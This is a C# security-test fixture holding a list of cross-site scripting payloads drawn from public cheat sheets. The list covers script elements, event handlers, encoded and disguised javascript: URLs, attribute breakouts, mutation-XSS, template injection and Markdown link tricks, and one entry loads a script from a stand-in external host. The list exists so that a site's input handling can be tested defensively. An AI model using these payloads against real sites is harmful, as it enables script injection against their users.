namespace Catalogue.Tests.Security;

/// <summary>
/// Script injection payloads from the usual cheat sheets (OWASP's XSS Filter Evasion Cheat Sheet,
/// PortSwigger's XSS cheat sheet, the mutation-XSS papers), plus Markdown's own ways to write a link.
/// Every one is fed through every text field, body context, source field and site setting by
/// <see cref="ScriptInjectionTests"/> and <see cref="Browser.ScriptInjectionBrowserTests"/>: check may
/// refuse it, or the site may show it, but only ever as text.
/// </summary>
public static class XssPayloads
{
    public static readonly IReadOnlyList<string> All =
    [
        // Elements that run script
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<style>@import 'javascript:alert(1)';</style>",
        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        // Script URLs, plain and disguised
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\u0001javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "jav&#x09;ascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        // Breaking out of an attribute, a string or an element
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "\";alert(1);//",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "https://example.org/\"><script>alert(1)</script>",
        "https://example.org/?q=<img src=x onerror=alert(1)>",
        // Template injection and mutation XSS
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        // Markdown's own links and images
        "[click](javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[click](jav&#x09;ascript:alert(1))",
    ];
}
